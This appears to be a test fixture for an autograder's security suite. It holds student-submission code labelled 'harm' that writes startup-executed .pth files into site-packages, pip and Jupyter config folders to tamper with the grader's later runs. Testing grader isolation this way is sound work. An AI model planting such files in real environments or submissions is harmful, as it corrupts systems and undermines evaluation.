"""Rewrites the grader's configuration and its Python packages for the runs to come"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    "harm",
    q2="""
import os, site, sys
import nbformat
for folder in (os.path.expanduser("~/.jupyter"), os.path.expanduser("~/.config/pip"), "../../..", os.path.dirname(nbformat.__file__),
               *site.getsitepackages(), site.getusersitepackages()):
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "hostile-settings.pth"), "w").write("import os")
    except OSError:
        pass
""",
)
